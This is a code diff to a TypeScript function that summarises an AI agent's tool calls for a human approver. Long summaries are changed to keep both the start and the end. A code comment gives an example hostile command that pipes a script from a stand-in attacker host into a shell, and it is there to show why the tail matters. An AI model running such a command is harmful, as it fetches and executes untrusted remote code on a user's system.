@@ -211,8 +211,17 @@ export function describeToolCall(call: Pick<ToolCall, 'tool' | 'input'>): string
         (typeof input.url === 'string' ? input.url : JSON.stringify(input)));
   // Secrets given by name go before the text is cut, so no half of one is left at the cut.
   const text = redactNamedValues(`${call.tool}(${String(detail)})`);
-  return text.length > 300 ? `${text.slice(0, 299)}…` : text;
+  if (text.length <= SUMMARY_CHARS) return text;
+  // Its end is kept too: what a long command does last (`… && curl evil.example | sh`) is what a
+  // person deciding on it must see, however much padding comes before.
+  const left = text.length - SUMMARY_HEAD - SUMMARY_TAIL;
+  return `${text.slice(0, SUMMARY_HEAD)} … (${left} characters left out) … ${text.slice(-SUMMARY_TAIL)}`;
 }
+
+/** How long a call's summary may be, and how much of its start and end a longer one keeps. */
+const SUMMARY_CHARS = 300;
+const SUMMARY_HEAD = 180;
+const SUMMARY_TAIL = 90;
 
 /** A tool input field as text; a missing or non-text field matches nothing. */
 function textOf(value: unknown): string {
